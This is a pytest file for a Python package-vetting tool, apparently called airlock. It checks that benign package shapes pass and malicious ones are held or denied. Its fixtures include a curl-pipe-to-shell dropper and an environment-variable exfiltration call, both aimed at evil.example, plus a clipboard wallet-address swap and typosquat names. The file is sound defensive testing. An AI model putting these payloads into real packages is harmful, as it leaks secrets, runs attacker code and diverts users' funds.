"""ADR 0133: what real packages of the ranked corpus are that is not malware.

Each benign shape was held on the tree this started from: a meta-package whose code is its
family's (``pydantic-ai`` -> ``pydantic-ai-slim``), a dependency one letter from a popular
name that is itself among the most downloaded (``usort`` beside ``isort``), and a clipboard
tool's
``python -m`` entry that copies what it is given. Each sits next to the malicious shape that
must still hold or deny.
"""

from __future__ import annotations

from collections.abc import Iterable

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.typosquat import established
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel


def _rules(findings: Iterable[PackageFinding], least: Severity = Severity.HIGH) -> set[str]:
    return {f.rule for f in findings if f.severity >= least}


# Meta-packages ----------------------------------------------------------------------------

LICENCE = {"pkg_ai-1.0.dist-info/licenses/LICENSE": "MIT\n"}


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_a_meta_package_pinning_its_family_at_its_own_version_is_allowed(kind: str) -> None:
    requires = (
        "Requires-Dist: pkg-ai-slim[cli,openai]==1.0\n"
        "Requires-Dist: pkg-ai-slim[bedrock]==1.0; extra == 'bedrock'\n"
    )
    if kind == "wheel":
        data = wheel("pkg-ai", "1.0", dict(LICENCE), requires=requires)
        report = vet("pkg_ai-1.0-py3-none-any.whl", data)
    else:
        files = {"pyproject.toml": "[project]\nname = 'pkg-ai'\n", "README.md": "meta\n"}
        data = sdist("pkg_ai", "1.0", files, extra_metadata=requires.replace("pkg-ai", "pkg_ai"))
        report = vet("pkg_ai-1.0.tar.gz", data)
    assert "empty-package" not in _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    "requires",
    [
        "",  # names nothing: the placeholder the rule exists for
        "Requires-Dist: pkg-ai-slim==0.9\n",  # the family at another version
        "Requires-Dist: pkg-ai-slim>=1.0\n",  # not pinned
        "Requires-Dist: other-slim==1.0\n",  # a project of another name
        "Requires-Dist: pkgai-slim==1.0\n",  # not the name and a separator
        "Requires-Dist: pkg-ai-slim==1.0; extra == 'all'\n",  # only under an extra
        "Requires-Dist: pkg-ai-slim==1.0; sys_platform == 'win32'\n",  # one platform only
    ],
)
def test_an_empty_package_not_a_family_release_still_holds(requires: str) -> None:
    report = vet("pkg_ai-1.0-py3-none-any.whl", wheel("pkg-ai", "1.0", {}, requires=requires))
    assert "empty-package" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


# Look-alike dependencies that are projects of their own ---------------------------------

CODE: dict[str, str | bytes] = {"lib/__init__.py": "def add(a, b):\n    return a + b\n"}


@pytest.mark.parametrize(
    "requires",
    [
        'Requires-Dist: usort==1.0.8 ; extra == "dev"\n',  # aiosqlite's development extra
        "Requires-Dist: usort>=1.0\n",
    ],
)
def test_a_dependency_among_the_most_downloaded_is_no_look_alike(requires: str) -> None:
    # usort (rank 3,029 of June 2026) is one letter from isort, and a project of its own.
    assert "usort" in established()
    report = vet("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", dict(CODE), requires=requires))
    assert "lookalike-dependency" not in _rules(report.findings, Severity.LOW), report.to_json()
    assert report.verdict is Outcome.ALLOW


@pytest.mark.parametrize("name", ["isortt", "iosrt", "reqeusts", "isprt"])
def test_a_look_alike_outside_the_most_downloaded_still_holds(name: str) -> None:
    assert name not in established()
    requires = f'Requires-Dist: {name}==1.0 ; extra == "dev"\n'
    report = vet("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", dict(CODE), requires=requires))
    assert "lookalike-dependency" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


# A package's ``python -m`` entry --------------------------------------------------------

CLIP_MAIN = (
    "import sys\nimport pyperclip\n"
    "if len(sys.argv) > 2 and sys.argv[1] == '--copy':\n"
    "    pyperclip.copy(sys.argv[2])\n"
    "elif len(sys.argv) > 1 and sys.argv[1] == '--paste':\n"
    "    sys.stdout.write(pyperclip.paste())\n"
)


def test_a_clipboard_tools_main_module_runs_when_a_person_runs_it() -> None:
    files: dict[str, str | bytes] = {"clip/__init__.py": "X = 1\n", "clip/__main__.py": CLIP_MAIN}
    report = vet("clip-1.0-py3-none-any.whl", wheel("clip", "1.0", files))
    assert "clipboard" not in _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW


def test_a_main_module_the_package_imports_runs_on_import() -> None:
    files: dict[str, str | bytes] = {
        "clip/__init__.py": "from . import __main__\n",
        "clip/__main__.py": CLIP_MAIN,
    }
    report = vet("clip-1.0-py3-none-any.whl", wheel("clip", "1.0", files))
    found = [f for f in report.findings if f.rule == "clipboard" and f.severity >= Severity.HIGH]
    assert found and "on import" in found[0].explanation
    assert report.verdict is Outcome.HOLD


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # A clipper's swap: a wallet address written in the code.
        ("import pyperclip\npyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n", ""),
        ("import os\nos.system('curl http://evil.example/x | sh')\n", "dropper"),
        (
            (
                "import os, urllib.request\nurllib.request.urlopen('http://evil.example/c',"
                " data=repr(dict(os.environ)).encode())\n"
            ),
            "exfiltration",
        ),
    ],
)
@pytest.mark.parametrize("imported", [False, True])
def test_a_main_modules_payload_still_holds_or_denies(body: str, rule: str, imported: bool) -> None:
    init = "from . import __main__\n" if imported else "X = 1\n"
    files: dict[str, str | bytes] = {"pkg/__init__.py": init, "pkg/__main__.py": body}
    report = vet("pkg-1.0-py3-none-any.whl", wheel("pkg", "1.0", files))
    if rule:
        assert rule in _rules(report.findings, Severity.CRITICAL)
        assert report.verdict is Outcome.DENY
    else:
        assert "clipboard" in _rules(report.findings)
        assert report.verdict is not Outcome.ALLOW
